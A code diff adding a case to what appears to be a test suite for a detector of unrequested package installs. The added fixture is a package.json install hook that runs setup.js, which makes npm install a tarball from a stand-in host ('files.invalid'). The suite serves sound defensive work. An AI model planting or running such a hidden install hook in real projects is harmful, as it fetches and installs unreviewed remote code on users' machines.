@@ -24,6 +24,15 @@ examine(installsPackagesUnasked, {
       weight: 'strong',
       says: ['further packages'],
     },
+    {
+      when: 'by the installer that runs the hook, as it says itself where it lies',
+      files: {
+        'package.json': hook('node setup.js'),
+        'setup.js': `${CP} cp.execFileSync(process.execPath, [process.env.npm_execpath, 'install', 'https://files.invalid/inert.tgz'])`,
+      },
+      weight: 'strong',
+      says: ['address of its own'],
+    },
     { when: 'with its words apart', files: { 'index.js': `${CP} cp.spawnSync('npm', ['i', 'inert'])` }, weight: 'strong' },
     {
       when: 'of another language',
